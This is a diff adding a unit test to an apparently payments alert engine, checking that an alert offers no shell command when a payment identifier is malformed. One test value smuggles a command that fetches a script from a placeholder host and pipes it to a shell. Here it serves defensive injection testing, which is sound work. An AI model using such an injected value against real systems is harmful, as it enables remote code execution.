@@ -337,3 +337,12 @@ describe('sanctions lists', () => {
     expect(alert?.action).not.toContain('previous version');
   });
 });
+
+it('An alert offers no command with an identifier that a shell would run', () => {
+  const failing = (paymentId: string) =>
+    findAlerts(engine({ money: { ...MONEY, failing: [{ paymentId, failures: 4, error: 'too much' }] } }));
+  const commandOf = (paymentId: string) =>
+    failing(paymentId).find(({ code }) => code === 'transfersFail')?.command;
+  expect(commandOf('pay_1')).toBe('nano-payments audit --payment pay_1');
+  expect(commandOf('pay_1;curl -s example.com|sh')).toBeNull();
+});
